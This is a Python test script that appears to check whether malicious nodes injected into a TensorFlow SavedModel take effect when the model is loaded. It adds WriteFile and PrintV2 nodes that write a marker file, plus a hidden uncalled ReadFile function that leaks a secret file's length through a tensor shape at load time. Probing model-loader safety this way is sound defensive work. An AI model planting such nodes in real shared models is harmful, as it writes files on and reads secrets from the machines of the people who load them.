"""Adds a node to a real SavedModel and loads and calls it, unconfined, to see whether the attack is one.

Run as `python run_hostile_graphs.py <SavedModel> <folder>`; prints what happened and each graph as JSON. All that is
written is a marker in the folder, all that is read is the length of the file `secret` in it.
"""

import json
import shutil
import sys
from pathlib import Path
from typing import Any

import tensorflow as tf  # noqa: TID253  this file is a program of its own
from tensorflow.core.protobuf import saved_model_pb2  # noqa: TID253
from tensorflow.python.framework import function_def_to_graph  # noqa: TID253


def _text(function: Any, name: str, value: str) -> None:
    node = function.node_def.add(name=name, op="Const")
    node.attr["dtype"].type = tf.string.as_datatype_enum
    node.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(value))


def _write(model: Any, folder: Path) -> None:
    function = _served(model)
    _text(function, "path", str(folder / "marker"))
    function.node_def.add(name="evil", op="WriteFile", input=["path:output:0", "path:output:0"])
    function.control_ret["evil"] = "evil"
    function.signature.control_output.append("evil")


def _print(model: Any, folder: Path) -> None:
    function = _served(model)
    _text(function, "path", "printed")
    node = function.node_def.add(name="evil", op="PrintV2", input=["path:output:0"])
    node.attr["output_stream"].s = f"file://{folder / 'marker'}".encode()
    node.attr["end"].s = b"\n"
    function.control_ret["evil"] = "evil"
    function.signature.control_output.append("evil")


def _read(model: Any, folder: Path) -> None:
    """A function that nothing calls: the length of the secret becomes a shape while it is loaded."""
    function = model.meta_graphs[0].graph_def.library.function.add()
    function.signature.name = "__inference_unused_1"
    function.signature.output_arg.add(name="y", type=tf.float32.as_datatype_enum)
    _text(function, "path", str(folder / "secret"))
    function.node_def.add(name="evil", op="ReadFile", input=["path:output:0"])
    function.node_def.add(name="length", op="StringLength", input=["evil:contents:0"])
    axis = function.node_def.add(name="axis", op="Const")
    axis.attr["dtype"].type = tf.int32.as_datatype_enum
    axis.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(0))
    sizes = function.node_def.add(name="sizes", op="ExpandDims", input=["length:output:0", "axis:output:0"])
    sizes.attr["T"].type = tf.int32.as_datatype_enum
    zero = function.node_def.add(name="zero", op="Const")
    zero.attr["dtype"].type = tf.float32.as_datatype_enum
    zero.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(0.0))
    fill = function.node_def.add(name="fill", op="Fill", input=["sizes:output:0", "zero:output:0"])
    fill.attr["T"].type = tf.float32.as_datatype_enum
    function.ret["y"] = "fill:output:0"


def _served(model: Any) -> Any:
    functions = model.meta_graphs[0].graph_def.library.function
    return next(function for function in functions if "signature_wrapper" in function.signature.name)


def _try(source: Path, folder: Path, change: Any) -> dict[str, object]:
    copy = folder / "copy"
    shutil.rmtree(copy, ignore_errors=True)
    (folder / "marker").unlink(missing_ok=True)
    shutil.copytree(source, copy)
    model = saved_model_pb2.SavedModel()
    model.ParseFromString((copy / "saved_model.pb").read_bytes())
    change(model, folder)
    graph = model.SerializeToString()
    (copy / "saved_model.pb").write_bytes(graph)
    loaded = tf.saved_model.load(str(copy))
    loaded.signatures["serving_default"](x=tf.zeros([1, 4]))
    return {"has_happened": (folder / "marker").exists() or _has_read(model, folder), "graph": graph.hex()}


def _has_read(model: Any, folder: Path) -> bool:
    """Whether the unused function's output has as many elements as the secret has bytes, without a call."""
    unused = [
        function
        for function in model.meta_graphs[0].graph_def.library.function
        if function.signature.name == "__inference_unused_1"
    ]
    if not unused:
        return False
    (output,) = function_def_to_graph.function_def_to_graph(unused[0]).outputs  # as loading does with every function
    return bool(output.shape == [len((folder / "secret").read_bytes())])


def main(source: Path, folder: Path) -> None:
    """Try all."""
    changes = {"WriteFile": _write, "PrintV2": _print, "ReadFile while it is loaded": _read}
    print(json.dumps({name: _try(source, folder, change) for name, change in changes.items()}))  # noqa: T201  its answer


if __name__ == "__main__":
    main(Path(sys.argv[1]), Path(sys.argv[2]))
